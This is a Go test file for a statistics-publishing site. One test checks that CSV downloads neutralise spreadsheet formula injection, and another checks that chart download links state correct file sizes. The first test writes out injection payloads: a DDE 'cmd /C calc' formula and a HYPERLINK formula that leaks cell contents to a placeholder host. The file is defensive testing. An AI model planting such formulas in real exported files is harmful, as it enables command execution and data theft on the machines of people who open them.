package publish

import (
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/iaptpub/iaptpub"
	"github.com/iaptpub/iaptpub/evaluation/benchmark"
	"github.com/iaptpub/iaptpub/evaluation/export"
	"github.com/iaptpub/iaptpub/evaluation/synth"
)

// Text from outside that a spreadsheet would run as a formula (provider names in the
// national publication) reaches every download with an apostrophe in front; numbers,
// signed ones included (the costs' changes), are untouched. A provider's code in the
// export never gets that far: one that is not an ODS code is a row error. The payloads
// are the tester's.
func TestDownloadsAreSafeInASpreadsheet(t *testing.T) {
	root := t.TempDir()
	exportDir := filepath.Join(root, "export")
	if _, err := synth.Generate(exportDir, synth.Options{Referrals: 400, Seed: 5}); err != nil {
		t.Fatal(err)
	}
	// Provider ZZA of the synthetic export becomes +CMD|x!A0 in every file.
	files, _ := filepath.Glob(filepath.Join(exportDir, "*.csv"))
	for _, name := range files {
		data, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(strings.ReplaceAll(string(data), ",ZZA,", ",+CMD|x!A0,")), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	results, report, err := compute(exportDir, iaptpub.Sources, export.Options{}, "")
	if err != nil {
		t.Fatal(err)
	}
	if report.LeftOut() == 0 {
		t.Fatal("the rows of provider +CMD|x!A0 were read: it is not an ODS code")
	}
	national := strings.NewReplacer(
		"ABOVE BOTH", `"=HYPERLINK(""http://example.org/?leak=""&A1,""Click"")"`, // quoted for CSV
		"WITHIN BOTH", "+cmd|' /C calc'!A0",
		"DEMO PROVIDER A", "@SUM(1+1)*cmd|' /C calc'!A0",
	).Replace(handMadeNational)
	file := filepath.Join(root, "hand-made-2024-25.csv")
	if err := os.WriteFile(file, []byte(national), 0o644); err != nil {
		t.Fatal(err)
	}
	if results.Benchmark, err = benchmark.Load(iaptpub.Sources, file); err != nil {
		t.Fatal(err)
	}
	gen, err := Generate(results)
	if err != nil {
		t.Fatal(err)
	}

	want := map[string]bool{ // every payload, as it must appear
		`'=HYPERLINK("http://example.org/?leak="&A1,"Click")`: false,
		`'+cmd|' /C calc'!A0`:          false,
		`'@SUM(1+1)*cmd|' /C calc'!A0`: false,
	}
	signed := 0
	downloads := 0
	for name, data := range gen {
		if !strings.HasPrefix(name, "static/downloads/") || !strings.HasSuffix(name, ".csv") {
			continue
		}
		downloads++
		rows, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if strings.Contains(strings.ToUpper(string(data)), "CMD|X!A0") {
			t.Errorf("%s holds the provider code +CMD|x!A0, which the reader refuses", name)
		}
		for i, row := range rows {
			for _, cell := range row {
				if _, ok := want[cell]; ok {
					want[cell] = true
				}
				if cell == "" {
					continue
				}
				switch cell[0] {
				case '=', '@', '\t', '\r':
					t.Errorf("%s:%d: cell %q would be a formula in a spreadsheet", name, i+1, cell)
				case '+', '-':
					if !isNumber(cell) {
						t.Errorf("%s:%d: cell %q would be a formula in a spreadsheet", name, i+1, cell)
					}
					signed++
				}
			}
		}
	}
	if downloads < 5 {
		t.Fatalf("only %d downloads generated", downloads)
	}
	for payload, seen := range want {
		if !seen {
			t.Errorf("no download has the cell %q", payload)
		}
	}
	if signed == 0 {
		t.Error("no signed number in any download: the test cannot tell they are left alone")
	}
}

// isNumber reports whether s is a plain decimal number, perhaps signed, written here
// independently of package csvsafe.
func isNumber(s string) bool {
	s = strings.TrimLeft(s[:1], "+-") + s[1:]
	dot := false
	for i, r := range s {
		switch {
		case r == '.' && !dot && i > 0:
			dot = true
		case r < '0' || r > '9':
			return false
		}
	}
	return s != ""
}

// Every chart's download link says the size of the file it offers, in whole
// kilobytes rounded up, as the built site holds it: the build writes the downloads
// into the site as Hugo renders the pages, and the pages take the sizes from the
// build rather than from the files.
func TestChartDownloadsSayTheirSize(t *testing.T) {
	slow(t, "builds the demonstration site")
	out := demoOutput(t)
	link := regexp.MustCompile(`<a href="(/downloads/charts/[^"]+\.csv)" download>Download the figures of [^<]*</a>( \(CSV, (\d+) KB\))?`)
	checked := 0
	err := filepath.WalkDir(out, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".html") {
			return err
		}
		page, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		for _, m := range link.FindAllSubmatch(page, -1) {
			checked++
			fi, err := os.Stat(filepath.Join(out, filepath.FromSlash(string(m[1]))))
			if err != nil {
				t.Errorf("%s offers %s, which the site does not have", p, m[1])
				continue
			}
			want := strconv.FormatInt((fi.Size()+1023)/1024, 10)
			if string(m[3]) != want {
				t.Errorf("%s offers %s as %q; it is %d bytes, want (CSV, %s KB)", p, m[1], m[2], fi.Size(), want)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if checked < 50 {
		t.Fatalf("checked %d chart download links; the demonstration site has well over 50", checked)
	}
}
